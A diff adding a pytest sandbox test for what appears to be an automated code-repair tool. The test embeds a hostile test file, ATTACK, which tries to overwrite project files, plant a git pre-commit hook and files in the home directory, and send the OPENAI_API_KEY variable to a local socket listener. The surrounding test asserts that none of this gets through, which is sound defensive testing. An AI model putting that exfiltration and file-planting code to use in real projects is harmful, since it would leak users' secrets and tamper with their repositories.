@@ -44,3 +44,54 @@ def test_a_conftest_faking_passes_outside_coverage_is_flaky_not_repaired(cli, ma
     result = json.loads((out / "result.json").read_text())
     assert result["status"] == "not_found" and result["message"].startswith("flaky:"), result
     assert "test_mod.py::test_f" in result["message"]
+
+
+ATTACK = """import os, socket, pathlib
+from mod import f
+
+
+def test_f():
+    for target in {targets!r}:
+        try:
+            pathlib.Path(target).write_text("planted")
+        except OSError:
+            pass
+    try:
+        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(
+            os.environ.get("OPENAI_API_KEY", "no key").encode())
+    except OSError:
+        pass
+    assert f() == 2
+"""
+
+
+@pytest.mark.parametrize("sandbox", SANDBOXES)
+def test_a_hostile_test_reaches_nothing_of_the_host(cli, make_repo, tmp_path, monkeypatch, sandbox):
+    import socket
+
+    home = tmp_path / "user-home"
+    home.mkdir()
+    with socket.socket() as server:
+        server.bind(("127.0.0.1", 0))
+        server.listen(1)
+        server.settimeout(0.5)
+        port = server.getsockname()[1]
+        proj = tmp_path / "proj"
+        targets = [str(proj / "mod.py"), str(proj / "planted.txt"), str(proj / ".git" / "hooks" / "pre-commit"),
+                   str(home / "planted"), "/var/tmp/patchwright-hostile-planted"]  # fmt: skip
+        proj = make_repo({"mod.py": "def f():\n    return 1\n",
+                          "test_mod.py": ATTACK.format(targets=targets, port=port)})  # fmt: skip
+        before = {p: p.read_bytes() for p in proj.rglob("*") if p.is_file()}
+        monkeypatch.setenv("OPENAI_API_KEY", "sk-hostile-results-key")
+        monkeypatch.setenv("HOME", str(home))
+        done = cli("repair", str(proj), "--out", str(tmp_path / "run"), "--max-evals", "3",
+                   "--sandbox", sandbox, timeout=900)  # fmt: skip
+        assert "Traceback" not in done.stderr, done.stderr[-2000:]
+        try:
+            conn, _ = server.accept()
+            got = conn.recv(100)
+        except OSError:
+            got = b""
+    assert got == b"", got
+    assert {p: p.read_bytes() for p in proj.rglob("*") if p.is_file()} == before
+    assert not (home / "planted").exists() and not os.path.exists(targets[-1])
